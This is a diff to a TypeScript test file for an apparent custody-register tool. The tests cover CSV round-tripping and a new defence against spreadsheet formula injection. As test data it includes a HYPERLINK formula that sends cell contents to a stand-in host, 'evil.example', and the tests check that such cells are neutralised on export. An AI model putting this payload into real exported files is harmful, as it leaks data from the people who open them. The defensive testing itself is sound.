@@ -3,11 +3,12 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { afterEach, describe, expect, it } from 'vitest';
+import { fixedClock } from '../../kernel/clock.ts';
 import { BUNDLE_COLUMNS, BUNDLE_FILES, emptyBundle, type Bundle } from './bundle.ts';
 import { parseCsvText, readBundle } from './read-bundle.ts';
 import { bundleToCsvTexts, writeBundle } from './write-bundle.ts';
 
-const now = new Date('2025-01-01T00:00:00Z');
+const clock = fixedClock('2025-01-01T00:00:00Z');
 
 /** A bundle with the awkward values a real register holds. */
 function awkwardBundle(): Bundle {
@@ -112,14 +113,14 @@ describe('bundleToCsvTexts', () => {
 
   it('writes times in UTC whatever offset the row carries', () => {
     const bundle = emptyBundle();
-    bundle.movements.push({ line: 2, at: '2024-03-02T08:00:00-05:00', person: 'P1', type: 'escape', to: null, reason: null });
-    expect(bundleToCsvTexts(bundle)['movements.csv']).toBe('at,person,type,to,reason\n2024-03-02T13:00:00.000Z,P1,escape,,\n');
+    bundle.movements.push({ line: 2, at: '2024-03-02T08:00:00-05:00', person: 'P01', type: 'escape', to: null, reason: null });
+    expect(bundleToCsvTexts(bundle)['movements.csv']).toBe('at,person,type,to,reason\n2024-03-02T13:00:00.000Z,P01,escape,,\n');
   });
 
   it('writes a carriage return inside a field as a line break a reader keeps inside the field', () => {
     const bundle = emptyBundle();
-    bundle.movements.push({ line: 2, at: '2024-03-02T08:00:00.000Z', person: 'P1', type: 'escape', to: null, reason: 'uno\rdos\r\ntres' });
-    const parsed = parseCsvText(bundleToCsvTexts(bundle)['movements.csv'], 'movements.csv', { language: 'es', now });
+    bundle.movements.push({ line: 2, at: '2024-03-02T08:00:00.000Z', person: 'P01', type: 'escape', to: null, reason: 'uno\rdos\r\ntres' });
+    const parsed = parseCsvText(bundleToCsvTexts(bundle)['movements.csv'], 'movements.csv', { language: 'es', clock });
     expect(parsed.issues).toEqual([]);
     expect(parsed.rows.map((r) => r.reason)).toEqual(['uno\ndos\ntres']);
   });
@@ -148,7 +149,7 @@ describe('writeBundle', () => {
     dir = mkdtempSync(join(tmpdir(), 'custodia-write-'));
     const original = awkwardBundle();
     writeBundle(dir, original);
-    const { bundle, counts, issues } = readBundle(dir, { language: 'es', now });
+    const { bundle, counts, issues } = readBundle(dir, { language: 'es', clock });
     expect(issues).toEqual([]);
     expect(counts).toEqual(EVERY_FILE_TWO_ROWS);
     expect(withoutLines(bundle)).toEqual(withoutLines(original));
@@ -161,9 +162,9 @@ describe('writeBundle', () => {
 
   it('round-trips the valid fixture folder', () => {
     dir = mkdtempSync(join(tmpdir(), 'custodia-write-'));
-    const first = readBundle(join(import.meta.dirname, 'fixtures', 'valid'), { language: 'es', now });
+    const first = readBundle(join(import.meta.dirname, 'fixtures', 'valid'), { language: 'es', clock });
     writeBundle(dir, first.bundle);
-    const second = readBundle(dir, { language: 'es', now });
+    const second = readBundle(dir, { language: 'es', clock });
     expect(second.issues).toEqual([]);
     // The folder has no group files; the writer writes every file, those with a header only.
     expect(second.counts).toEqual({ ...first.counts, 'groups.csv': 0, 'group_relations.csv': 0, 'memberships.csv': 0, 'non_associations.csv': 0 });
@@ -172,28 +173,59 @@ describe('writeBundle', () => {
 });
 
 describe('round trip of free text', () => {
-  const piece = fc.constantFrom('a', 'Z', 'ñ', 'É', 'ü', '«', ',', '"', "'", ' ', '\n', '\t', '#', '0');
+  // Among them what starts a spreadsheet formula, and the alias separator and its escape.
+  const piece = fc.constantFrom('a', 'Z', 'ñ', 'É', 'ü', '«', ',', '"', "'", ' ', '\n', '\t', '#', '0', '=', '+', '-', '@', ';', '\\', '😀');
   /** Text as the reader keeps it: trimmed and not empty. */
   const freeText = fc
     .array(piece, { minLength: 1, maxLength: 20 })
     .map((pieces) => pieces.join(''))
     .filter((value) => value.trim() === value && value !== '');
-  const alias = freeText.filter((value) => !value.includes(';'));
+  const alias = freeText;
 
   it('gives back any names, aliases and reasons', () => {
     fc.assert(
       fc.property(freeText, freeText, fc.array(alias, { maxLength: 3 }), freeText, (givenNames, familyNames, aliases, reason) => {
         const bundle = emptyBundle();
-        bundle.persons.push({ line: 2, id: 'P1', nationalId: null, givenNames, familyNames, aliases, birthDate: null, sex: 'F', nationality: 'ECU' });
-        bundle.movements.push({ line: 2, at: '2024-01-01T00:00:00.000Z', person: 'P1', type: 'court_out', to: null, reason });
+        bundle.persons.push({ line: 2, id: 'P01', nationalId: null, givenNames, familyNames, aliases, birthDate: null, sex: 'F', nationality: 'ECU' });
+        bundle.movements.push({ line: 2, at: '2024-01-01T00:00:00.000Z', person: 'P01', type: 'court_out', to: null, reason });
         const texts = bundleToCsvTexts(bundle);
-        const persons = parseCsvText(texts['persons.csv'], 'persons.csv', { language: 'es', now });
-        const movements = parseCsvText(texts['movements.csv'], 'movements.csv', { language: 'es', now });
+        const persons = parseCsvText(texts['persons.csv'], 'persons.csv', { language: 'es', clock });
+        const movements = parseCsvText(texts['movements.csv'], 'movements.csv', { language: 'es', clock });
         expect(persons.issues).toEqual([]);
         expect(movements.issues).toEqual([]);
         expect(persons.rows.map((p) => [p.givenNames, p.familyNames, p.aliases])).toEqual([[givenNames, familyNames, aliases]]);
         expect(movements.rows.map((m) => m.reason)).toEqual([reason]);
       }),
     );
+  });
+});
+
+describe('formula injection', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")', '-Pérez', '+593 99', '@SUM(A1)', "'=ya citado", "'normal"];
+
+  it('writes no text cell a spreadsheet would run: one quote in front, taken off again on import', () => {
+    const bundle = emptyBundle();
+    bundle.persons.push({ line: 2, id: 'P01', nationalId: null, givenNames: hostile[0] as string, familyNames: hostile[1] as string, aliases: hostile.slice(2), birthDate: null, sex: 'F', nationality: 'ECU' });
+    bundle.groups.push({ line: 2, code: 'G1', name: '=1+1', kind: 'gang', parent: null, aliases: ['-Lobos', 'a;b', 'c\\'] });
+    bundle.nonAssociations.push({ line: 2, personA: 'P01', personB: 'P02', reason: 'threat', level: 'cell', comment: '@comentario largo' });
+    bundle.movements.push({ line: 2, at: '2024-01-01T00:00:00.000Z', person: 'P01', type: 'court_out', to: null, reason: '+1 día' });
+    const texts = bundleToCsvTexts(bundle);
+    expect(texts['persons.csv'].split('\n')[1]).toBe(
+      'P01,,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver ficha"")",\'-Pérez,\'+593 99;@SUM(A1);\'=ya citado;\'normal,,F,ECU',
+    );
+    expect(texts['groups.csv'].split('\n')[1]).toBe("G1,'=1+1,gang,,'-Lobos;a\\;b;c\\\\");
+    for (const text of Object.values(texts)) {
+      for (const cell of text.split(/[\n,]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const read = <F extends keyof typeof texts>(file: F) => parseCsvText(texts[file], file, { language: 'es', clock });
+    expect(read('persons.csv').rows.map((p) => [p.givenNames, p.familyNames, p.aliases])).toEqual([[hostile[0], hostile[1], hostile.slice(2)]]);
+    expect(read('groups.csv').rows.map((g) => [g.name, g.aliases])).toEqual([['=1+1', ['-Lobos', 'a;b', 'c\\']]]);
+    expect(read('non_associations.csv').rows.map((n) => n.comment)).toEqual(['@comentario largo']);
+    expect(read('movements.csv').rows.map((m) => m.reason)).toEqual(['+1 día']);
+  });
+
+  it('leaves codes, dates and numbers as they are', () => {
+    const texts = bundleToCsvTexts(awkwardBundle());
+    expect(texts['custody.csv'].split('\n')[1]).toBe('PPL-0001,LIT,2024-03-01T15:00:00.000Z,pretrial,robbery,7.5,2024-02-28,high,LIT-P2-A-012');
   });
 });
